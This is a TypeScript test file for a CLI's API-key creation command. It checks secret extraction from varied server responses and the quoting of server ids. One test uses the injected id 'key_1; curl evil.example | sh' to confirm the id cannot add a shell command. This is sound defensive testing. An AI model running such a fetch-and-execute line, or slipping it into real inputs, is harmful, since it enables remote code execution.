// tier: in-process
import { describe, expect, it } from 'vitest';
import { useSpecServer, type SpecServer, type Variation } from '../../helpers/spec-server.js';
import { svc, tempConfigDir } from '../../helpers/in-process.js';

// docs/contract.md §C6: the spec never names the field that carries a new key's
// secret. Against servers that name or nest it otherwise, the secret still
// reaches stdout, or the whole answer does and svc fails; rotate never
// touches the old key unless the new secret was shown.

const config = tempConfigDir();
const spec = useSpecServer(config);
const against = (variation: Variation) => spec.start(variation);

function newest(s: SpecServer) {
  return [...s.keys.values()].at(-1)!;
}

const found: [string, Variation['created']][] = [
  ['a top-level field named "key"', (r, secret) => ({ ...r, key: secret })],
  ['"apiKey" nested one object down', (r, secret) => ({ data: { ...r, apiKey: secret } })],
  ['"secret" beside a token of another shape', (r, secret) => ({ ...r, secret, token: 'tok_123' })],
];

const lost: [string, Variation['created']][] = [
  ['nested two objects down', (_r, secret) => ({ result: { key: { value: secret } } })],
  ['in a format svc does not know', (r, secret) => ({ ...r, token: `live-${secret.slice(3)}` })],
  ['twice, with two different values', (r, secret) => ({ ...r, key: secret, previous: `sk_${'A'.repeat(64)}` })],
];

describe('keys create', () => {
  it.each(found)('prints the secret when it is %s', async (_, created) => {
    const env = await against({ created });
    const result = await svc(['keys', 'create', 'ci'], env);
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toBe(newest(spec.server).secret);
    expect(result.stderr).toContain('only time this secret is shown');
  });

  it.each(lost)('prints the whole answer and exits 1 when the secret is %s', async (_, created) => {
    const env = await against({ created });
    const result = await svc(['keys', 'create', 'ci'], env);
    const key = newest(spec.server);
    expect(result.exitCode).toBe(1);
    expect(JSON.parse(result.stdout)).toEqual(created!(JSON.parse(JSON.stringify(recordOf(key))), key.secret));
    expect(result.stdout).not.toContain('undefined');
    expect(result.stderr).toContain('could not find its secret');
  });

  it("quotes the server's id in the command it gives for revoking the key, so the id cannot add a command", async () => {
    const id = 'key_1; curl evil.example | sh';
    const env = await against({ created: (r, secret) => ({ ...r, id, secret }) });
    const result = await svc(['keys', 'create', 'ci'], env);
    expect(result.exitCode).toBe(0);
    expect(result.stderr).toContain(`revoke the key (svc keys revoke '${id}')`);
  });

  it('--json prints the answer as it came, under `key`, and still exits 1 when no secret is in it', async () => {
    const env = await against({ created: (_r, secret) => ({ result: { key: { value: secret } } }) });
    const result = await svc(['keys', 'create', 'ci', '--json'], env);
    expect(result.exitCode).toBe(1);
    expect(JSON.parse(result.stdout)).toEqual({ key: { result: { key: { value: newest(spec.server).secret } } }, delivered: [] });
  });
});

function recordOf(key: { id: string; name: string; enabled: boolean; createdAt: number; expiresAt: number | null }) {
  return {
    id: key.id,
    name: key.name,
    enabled: key.enabled,
    createdAt: new Date(key.createdAt).toISOString(),
    expiresAt: key.expiresAt === null ? null : new Date(key.expiresAt).toISOString(),
  };
}
